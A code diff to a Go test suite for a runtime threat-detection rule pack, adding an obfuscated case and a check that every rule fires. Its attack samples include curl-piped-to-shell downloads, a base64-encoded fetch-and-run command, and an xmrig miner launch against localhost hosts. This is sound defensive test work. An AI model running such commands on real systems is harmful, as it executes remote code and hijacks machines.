@@ -166,6 +166,9 @@ func TestDefaultPack(t *testing.T) {
 		{"Execution:Runtime/SuspiciousCommand",
 			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(70, 1, "/bin/sh", "sh", "-c", "curl -fsSL http://127.0.0.1:8000/install.sh | sh"),
 			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(70, 1, "/bin/sh", "sh", "-c", "curl -fsSL -o /tmp/health.json http://127.0.0.1:8000/health && cat /tmp/health.json | jq .")},
+		{"Execution:Runtime/SuspiciousCommand",
+			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(71, 1, "/bin/sh", "sh", "-c", "echo Y3VybCAtcyBodHRwOi8vMTI3LjAuMC4xL3ggfCBzaAo= | base64 -d | sh"),
+			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(71, 1, "/bin/sh", "sh", "-c", "echo aGVsbG8= | base64 -d > /tmp/greeting.txt")},
 		{"Impact:Runtime/CryptoMinerExecuted",
 			app().exec(80, 7, "/tmp/.x/xmrig", "xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level", "1"),
 			app().exec(80, 7, "/usr/local/bin/node", "node", "--max-old-space-size=512", "worker.js")},
@@ -268,15 +271,15 @@ func TestDefaultPack(t *testing.T) {
 			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "api.greenfieldmarket.com", DNSType: 1})},
 	}
 	set, _ := rules.Load(rules.DefaultSources(), rules.Options{})
-	covered := map[string]bool{}
+	fired := map[string]bool{}
 	for _, c := range cases {
-		covered[c.typ] = true
 		t.Run(c.typ, func(t *testing.T) {
 			got := run(t, c.attack.evs)
 			var hit *finding.Finding
 			for _, f := range got {
 				if f.Type == c.typ {
 					hit = f
+					fired[f.Service.Detection.RuleID] = true
 				}
 			}
 			if hit == nil {
@@ -295,8 +298,8 @@ func TestDefaultPack(t *testing.T) {
 		})
 	}
 	for _, r := range set.Rules() {
-		if !covered[r.Type] {
-			t.Errorf("rule %s (%s) has no test case", r.ID, r.Type)
+		if !fired[r.ID] {
+			t.Errorf("rule %s (%s) fired in no attack sequence: give it a case", r.ID, r.Type)
 		}
 	}
 }
